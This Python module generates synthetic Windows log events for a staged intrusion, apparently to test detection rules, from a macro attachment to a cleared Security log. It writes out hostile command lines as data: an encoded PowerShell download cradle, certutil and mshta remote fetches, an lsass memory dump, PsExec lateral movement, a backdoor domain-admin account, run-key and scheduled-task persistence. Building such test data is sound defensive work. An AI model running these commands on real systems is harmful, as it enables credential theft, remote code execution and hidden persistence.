"""The intrusion that is planted in Acme's Windows logs, from the opened attachment to the cleared log.

Command lines are our own; hosts that serve the attacker are in ``.test`` or on addresses that nobody uses, but for the
domains and the address that official publications give, by which the hunt for such contacts is tried.
"""

from __future__ import annotations

import base64
from collections.abc import Iterator

from making.office import EDGE, EXPLORER, OUTLOOK, WORD
from making.people import ADMIN_LOGIN, ADMIN_SID, DC, PEOPLE, SQL, VICTIM, at, march
from making.security import (
    account_event,
    log_cleared,
    member_added,
    privileged,
    service_made,
    signed_in,
    task_event,
    task_made,
)
from making.servers import SERVICES, SQLSERVR
from making.windows import (
    POWERSHELL,
    SYS32,
    SYSTEM,
    SYSTEM_USER,
    Made,
    connection,
    dns_query,
    domain_user,
    file_made,
    process,
    process_audited,
    registry_set,
    script,
    sid_of,
)

STAGER = "192.88.99.211"  # in the hosting range of tables/address-kinds.csv
RELAY_DOMAIN = "gitcloudcache.com"  # published for APT31: see knowledge/pack/traits.csv
CONTRACTOR_DOMAIN = "integritytech.com.cn"  # of a company on the EU's and the US list: see knowledge/pack/parties.csv
BOTNET_ADDRESS = "45.77.231.209"  # published for Flax Typhoon: see knowledge/pack/traits.csv
CMD, NET = SYS32 + "cmd.exe", SYS32 + "net.exe"
_HOST, _USER = VICTIM.host, domain_user(VICTIM.login)
_CACHE = "AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook"
_ATTACHMENT = f"C:\\Users\\{VICTIM.login}\\{_CACHE}\\RFQ-2026-0311.docm"
_DOWNLOAD = f"IEX (New-Object Net.WebClient).DownloadString('https://{RELAY_DOMAIN}/rfq')"
_SEARCH = (
    "$s = New-Object System.DirectoryServices.DirectorySearcher\n"
    "$s.Filter = '(&(objectCategory=computer)(operatingSystem=*server*))'\n"
    "$s.FindAll() | ForEach-Object { $_.Properties['dnshostname'] }\n"
    "Get-ADGroupMember -Identity 'Domain Admins' -Recursive\n"
    "Get-ADTrust -Filter *"
)


def encoded(text: str) -> str:
    """PowerShell's own coding of a command: Base64 of UTF-16, low byte first."""
    return base64.b64encode(text.encode("utf-16-le")).decode()


def intrusion() -> Iterator[Made]:
    """All planted Windows events."""
    yield from _phishing()
    yield from _reconnaissance()
    yield from _tools()
    yield from _lateral_movement()
    yield from _persistence()
    yield from _contractor()


def _phishing() -> Iterator[Made]:
    day = march(10)
    command = f"powershell.exe -NoP -W Hidden -Enc {encoded(_DOWNLOAD)}"
    yield process(at(day, "13:46:52", 310), _HOST, _USER, WORD, f'"{WORD}" /n "{_ATTACHMENT}"', OUTLOOK)
    started = process(at(day, "13:47:05", 118), _HOST, _USER, POWERSHELL, command, WORD)
    yield started.by_rule("office-child-process", "Word starts PowerShell").by_rule(
        "powershell-encoded-command", "an encoded command in a hidden window"
    )
    yield process_audited(at(day, "13:47:05", 121), _HOST, VICTIM.sid, VICTIM.login, POWERSHELL, command, WORD).by_rule(
        "office-child-process", "the same as the Security log saw it"
    )
    yield script(at(day, "13:47:06", 402), _HOST, VICTIM.sid, _DOWNLOAD).by_rule(
        "powershell-download-cradle", "a script that runs what it downloads"
    )
    yield dns_query(at(day, "13:47:06", 655), _HOST, _USER, POWERSHELL, RELAY_DOMAIN, STAGER).by_hunt(
        RELAY_DOMAIN, "look-up of a domain published for APT31"
    )
    yield connection(
        at(day, "13:47:06", 790), _HOST, _USER, POWERSHELL, VICTIM.address, STAGER, 443, RELAY_DOMAIN
    ).by_hunt(RELAY_DOMAIN, "connection to a domain published for APT31")


def _reconnaissance() -> Iterator[Made]:
    day = march(10)
    yield script(at(day, "13:52:30", 11), _HOST, VICTIM.sid, _SEARCH).by_rule(
        "powershell-ad-enumeration",
        "a script that lists servers, administrators and trusts",
    )
    for clock, image, command, rule in (
        ("13:54:02", SYS32 + "whoami.exe", "whoami /all", "whoami-all"),
        ("13:54:20", NET, 'net group "Domain Admins" /domain', "net-admin-groups"),
        ("13:55:41", SYS32 + "nltest.exe", "nltest /domain_trusts", "nltest-trusts"),
    ):
        yield process(at(day, clock, 230), _HOST, _USER, image, command, POWERSHELL).by_rule(
            rule, f"reconnaissance: {command}"
        )


def _tools() -> Iterator[Made]:
    day, loot = march(10), "C:\\Users\\Public\\d.dmp"
    fetched = f"certutil -urlcache -split -f http://{STAGER}/m.cab C:\\Users\\Public\\m.cab"
    yield process(at(day, "14:20:13", 77), _HOST, _USER, SYS32 + "certutil.exe", fetched, CMD).by_rule(
        "certutil-download", "certutil fetches a file"
    )
    page = "mshta http://files.rfq-portal.test/view.hta"
    yield process(at(day, "14:23:48", 512), _HOST, _USER, SYS32 + "mshta.exe", page, CMD).by_rule(
        "mshta-remote-code", "mshta runs a page from the internet"
    )
    dump = f"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 {loot} full"
    yield process(
        at(day, "14:41:09", 940), _HOST, SYSTEM_USER, SYS32 + "rundll32.exe", dump, CMD, integrity="System"
    ).by_rule("lsass-memory-dump", "the memory of lsass is written to a file")
    yield file_made(at(day, "14:41:11", 2), _HOST, SYSTEM_USER, SYS32 + "rundll32.exe", loot)


def _lateral_movement() -> Iterator[Made]:
    """Early on 12 March, with the administrator's stolen password: to the database server."""
    day, name, path = march(12), "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe"
    yield signed_in(at(day, "00:52:10", 15), SQL.host, ADMIN_SID, ADMIN_LOGIN, 3, VICTIM.address, VICTIM.host)
    yield privileged(at(day, "00:52:10", 16), SQL.host, ADMIN_SID, ADMIN_LOGIN)
    yield service_made(at(day, "00:52:12", 480), SQL.host, name, path).by_rule(
        "service-remote-execution", "a service for remote execution on the database server"
    )
    yield process(
        at(day, "00:52:12", 900), SQL.host, SYSTEM_USER, "C:\\Windows\\PSEXESVC.exe", path, SERVICES, integrity="System"
    )
    query = 'cmd.exe /c "whoami & dir D:\\Backup"'
    yield process(
        at(day, "00:58:33", 120), SQL.host, domain_user("svc-sql"), CMD, query, SQLSERVR, integrity="High"
    ).by_rule("sql-child-process", "the database server starts a command line")


def _persistence() -> Iterator[Made]:
    day, by = march(13), (ADMIN_SID, ADMIN_LOGIN)
    run = f"HKU\\{VICTIM.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\RfqViewer"
    target = "powershell.exe -w hidden -f C:\\Users\\Public\\view.ps1"
    yield registry_set(at(march(10), "14:30:25", 604), _HOST, _USER, POWERSHELL, run, target).by_rule(
        "run-key-script", "a run key that starts PowerShell"
    )
    for host, clock in ((DC.host, "01:10:20"), (SQL.host, "01:13:31")):
        yield signed_in(at(day, clock, 4), host, ADMIN_SID, ADMIN_LOGIN, 3, VICTIM.address, VICTIM.host)
        yield privileged(at(day, clock, 5), host, ADMIN_SID, ADMIN_LOGIN)
    new = {"SamAccountName": "svc-update", "DisplayName": "Update service", "UserAccountControl": "%%2080"}
    yield account_event(at(day, "01:11:02", 30), DC.host, 4720, *by, "svc-update", 1666, new).by_rule(
        "new-account-created", "a new account in the night"
    )
    yield member_added(
        at(day, "01:11:40", 92), DC.host, 4728, *by, "svc-update", 1666, "Domain Admins", sid_of(512)
    ).by_rule("admins-member-added", "the new account becomes a domain administrator")
    yield member_added(
        at(day, "01:14:08", 55), SQL.host, 4732, *by, "svc-update", 1666, "Administrators", "S-1-5-32-544"
    ).by_rule("admins-member-added", "and administrator of the database server")
    name = "\\ErpCacheRefresh"
    action = "-NoP -W Hidden -File C:\\Users\\Public\\view.ps1"
    create = f'schtasks /create /tn {name[1:]} /sc onlogon /ru SYSTEM /tr "powershell {action}"'
    yield process(
        at(day, "01:20:17", 610),
        SQL.host,
        domain_user(ADMIN_LOGIN),
        SYS32 + "schtasks.exe",
        create,
        CMD,
        integrity="High",
    ).by_rule("schtasks-script", "a task that starts PowerShell as SYSTEM")
    yield task_made(at(day, "01:20:17", 655), SQL.host, *by, name, "powershell", action).by_rule(
        "scheduled-task-script", "the same as the Security log saw it"
    )
    yield task_event(at(day, "01:20:17", 660), SQL.host, 106, name, {"UserContext": SYSTEM})
    yield log_cleared(at(march(17), "02:20:44", 8), SQL.host, *by).by_rule(
        "log-cleared-security", "the Security log of the database server is cleared"
    )


def _contractor() -> Iterator[Made]:
    """A clerk's browser opens the page of a listed company: no attack, but a contact to ask about."""
    person = PEOPLE[1]
    user = domain_user(person.login)
    yield process(at(march(16), "10:31:00", 5), person.host, user, EDGE, f'"{EDGE}" --new-window', EXPLORER)
    yield dns_query(at(march(16), "10:31:22", 460), person.host, user, EDGE, CONTRACTOR_DOMAIN, "203.0.113.77").by_hunt(
        CONTRACTOR_DOMAIN, "look-up of a listed company's domain"
    )
